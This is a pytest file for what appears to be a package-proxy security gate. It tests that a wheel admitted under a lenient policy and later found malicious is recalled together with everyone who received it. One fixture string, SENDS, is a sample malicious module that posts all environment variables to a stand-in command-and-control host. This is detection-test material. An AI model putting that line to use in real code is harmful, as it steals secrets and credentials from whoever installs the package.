"""What was let in and is known to be bad by now is found again, with everyone who got it, and refused from then on."""

from collections.abc import AsyncIterator
from pathlib import Path

import msgspec
import pytest

from pratique.app import open_world
from pratique.facts.severity import worst
from pratique.flow.gate.admit import admit
from pratique.flow.investigate.recalls import recalls, rescan
from pratique.flow.requester import FileRequest, Requester
from pratique.flow.world import World
from pratique.model.artifact import Digest, ProjectName
from pratique.model.decision import Verdict
from pratique.model.evidence import Alarm
from pratique.model.scope import Actor, ActorKind, Scope, ScopeName
from pratique.settings import Settings
from pratique.simulators.clock import SimulatedClock
from pratique.simulators.upstream import SimulatedIndex, SimulatedUpstream
from pratique.simulators.wheels import wheel
from tests.conftest import DAY, NOW

PROJECT = ProjectName("sendlook")
REQUESTER = Requester(Scope(ScopeName("workstation")), Actor(ActorKind.HUMAN, "ann"))
OTHER = Digest("sha256:" + "7" * 64)
SENDS = "import os\nimport requests\n\nrequests.post('https://c2.example.invalid/', json=dict(os.environ))\n"
ACCEPTS = '[scopes]\nworkstation = { mode = "observe" }\n[malware]\n[fixed-bytes]\n'


@pytest.fixture
async def lenient(
    settings: Settings, clock: SimulatedClock, index: SimulatedIndex, tmp_path: Path
) -> AsyncIterator[World]:
    for version, code in (("1.0", "VERSION = 1\n"), ("1.1", SENDS)):
        index.add("sendlook", wheel("sendlook", version, {"sendlook/__init__.py": code}), NOW - 400 * DAY)
    policy = tmp_path / "policy.toml"
    policy.write_text(ACCEPTS, encoding="utf-8")
    own = msgspec.structs.replace(settings, policy=str(policy))
    async with open_world(own, clock=clock, upstreams={"public": SimulatedUpstream("public", index)}) as world:
        yield world


async def take(world: World, version: str) -> Verdict:
    entry = (await world.pages.find(PROJECT)).entries[f"sendlook-{version}-py3-none-any.whl"]
    return (await admit(world, FileRequest(REQUESTER, "public", entry.path))).judged.decision.enforced


async def test_a_file_that_worries_and_was_let_in_is_recalled_with_everyone_who_got_it(lenient: World) -> None:
    assert await take(lenient, "1.1") is Verdict.ALLOW
    assert await take(lenient, "1.0") is Verdict.ALLOW
    (found,) = await recalls(lenient)
    assert [artifact.file for artifact in found.served.artifacts] == ["sendlook-1.1-py3-none-any.whl"]
    assert [each.event.actor.kind for each in found.served.entries if each.event is not None] == [ActorKind.HUMAN]
    assert worst(found.scan) is Alarm.MALICIOUS


async def test_other_rules_look_again_and_go_on_where_they_were_broken_off(
    lenient: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    for version in ("1.1", "1.0"):
        await take(lenient, version)
    told = await rescan(lenient)
    assert (told.served, told.looked, told.unread) == (2, 0, 0)
    monkeypatch.setattr(lenient.scanner, "rules", OTHER)
    assert await recalls(lenient) == []
    steps: list[tuple[int, int]] = []
    told = await rescan(lenient, lambda done, of: steps.append((done, of)))
    assert (told.served, told.looked, told.unread) == (2, 2, 0)
    assert steps == [(1, 2), (2, 2)]


async def test_a_file_that_is_no_longer_held_is_counted_and_named(
    lenient: World, monkeypatch: pytest.MonkeyPatch
) -> None:
    await take(lenient, "1.0")
    entry = (await lenient.pages.find(PROJECT)).entries["sendlook-1.0-py3-none-any.whl"]
    assert entry.digest is not None
    await lenient.blobs.remove(entry.digest)
    monkeypatch.setattr(lenient.scanner, "rules", OTHER)
    told = await rescan(lenient)
    assert (told.looked, told.unread) == (0, 1)
    assert told.why == "sendlook-1.0-py3-none-any.whl: it is no longer held here"
